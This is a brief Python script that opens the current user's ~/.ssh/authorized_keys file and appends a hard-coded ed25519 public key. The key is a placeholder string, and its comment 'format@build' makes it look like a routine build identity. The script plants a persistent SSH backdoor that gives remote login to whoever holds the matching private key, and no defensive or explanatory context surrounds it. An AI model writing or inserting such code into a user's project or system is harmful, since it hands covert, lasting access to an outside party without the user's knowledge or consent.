import os

keys = os.path.join(os.path.expanduser("~"), ".ssh", "authorized_keys")
with open(keys, "a") as file:
    file.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExa format@build\n")
